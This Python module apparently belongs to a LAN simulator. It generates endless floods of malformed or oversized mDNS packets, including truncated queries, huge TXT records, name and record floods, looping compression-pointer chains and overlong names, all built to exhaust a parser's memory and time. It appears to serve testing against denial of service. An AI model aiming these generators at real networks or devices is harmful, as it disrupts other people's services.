"""The packets of attacks on the memory and the time of who reads them.  Pure.

Each is as large, or makes its reader keep or compute as much, as mDNS allows.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator, Mapping

from gatewayd.simulator.lan import dns

LARGEST = 8900
"""Bytes of the largest packets: some readers take no more than 8,966."""
FOREVER = 0x7FFFFFFF
"""Seconds that a record says it may be kept."""

_LONGEST_LABEL = 63
_TEXT_BYTES = 8800

PacketMaker = Callable[[random.Random, str], Iterator[bytes]]
"""Makes endless packets of which no two are equal, about a service type with its domain."""


def truncated_queries(rng: random.Random, service: str) -> Iterator[bytes]:
    """Yield queries that announce more to come (RFC 6762, 7.2), full of known answers."""
    flags = _header(flags=dns.TRUNCATED, questions=1)
    question = _name(*dns.name(service)) + struct.pack("!HH", dns.PTR, dns.IN)
    while True:
        yield (flags + question + rng.randbytes(LARGEST))[:LARGEST]


def heavy_texts(rng: random.Random, service: str) -> Iterator[bytes]:
    """Yield announcements of a new name each, with 8.8 kB of TXT."""
    while True:
        owner = _name(_word(rng), *dns.name(service))
        raw = b"".join(b"\xff" + rng.randbytes(255) for _ in range(_TEXT_BYTES // 256))
        pointer = _record(_name(*dns.name(service)), dns.PTR, owner)
        yield _header(answers=2) + pointer + _record(owner, dns.TXT, raw)


def many_names(rng: random.Random, service: str) -> Iterator[bytes]:
    """Yield packets that announce as many new names as there is room for."""
    type_ = _name(*dns.name(service))
    while True:
        packet = bytearray(_header(answers=1))
        at, count = len(packet), 1
        first = _word(rng)
        packet += _record(type_, dns.PTR, bytes([len(first)]) + first + _pointer(at))
        while len(packet) < LARGEST - 32:
            word = _word(rng)
            target = bytes([len(word)]) + word + _pointer(at)
            packet += _record(_pointer(at), dns.PTR, target)
            count += 1
        packet[6:8] = count.to_bytes(2)
        yield bytes(packet)


def many_records(rng: random.Random, _: str) -> Iterator[bytes]:
    """Yield packets full of the shortest records: addresses of one host."""
    while True:
        packet = bytearray(
            _header(answers=0) + _record(_name(_word(rng), b"local"), dns.A, bytes(4))
        )
        count = 1
        while len(packet) < LARGEST - 16:
            packet += _record(_pointer(12), dns.A, rng.randbytes(4))
            count += 1
        packet[6:8] = count.to_bytes(2)
        yield bytes(packet)


def pointer_chains(rng: random.Random, service: str) -> Iterator[bytes]:
    """Yield packets whose names point at names that point, and at last at themselves."""
    while True:
        packet = bytearray(_header(answers=0) + _record(_name(*dns.name(service)), dns.TXT, b""))
        at, count = 12, 1
        while len(packet) < LARGEST - 32:
            word = _word(rng)[:2]
            here = len(packet)
            packet += _record(bytes([len(word)]) + word + _pointer(at), dns.A, rng.randbytes(4))
            at, count = here, count + 1
        packet += _record(_pointer(len(packet)), dns.A, bytes(4))
        packet[6:8] = (count + 1).to_bytes(2)
        yield bytes(packet)


def unreadable_names(rng: random.Random, _: str) -> Iterator[bytes]:
    """Yield packets with a name that is too long: a reader may keep the text of its error."""
    while True:
        labels = (b"%x" % rng.getrandbits(4 * _LONGEST_LABEL) for _ in range(120))
        raw = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
        yield _header(answers=1) + raw + struct.pack("!HHIH", dns.A, dns.IN, FOREVER, 4) + bytes(4)


FLOODS: Mapping[str, PacketMaker] = {
    "truncated-queries": truncated_queries,
    "heavy-texts": heavy_texts,
    "many-names": many_names,
    "many-records": many_records,
    "pointer-chains": pointer_chains,
    "unreadable-names": unreadable_names,
}
"""The attacks, by name."""


def _word(rng: random.Random) -> bytes:
    return b"x%015x" % rng.getrandbits(60)


def _header(*, flags: int = dns.RESPONSE, questions: int = 0, answers: int = 0) -> bytes:
    return struct.pack("!6H", 0, flags, questions, answers, 0, 0)


def _name(*labels: bytes) -> bytes:
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def _pointer(at: int) -> bytes:
    return (0xC000 | at).to_bytes(2)


def _record(owner: bytes, kind: int, data: bytes) -> bytes:
    return owner + struct.pack("!HHIH", kind, dns.IN, FOREVER, len(data)) + data
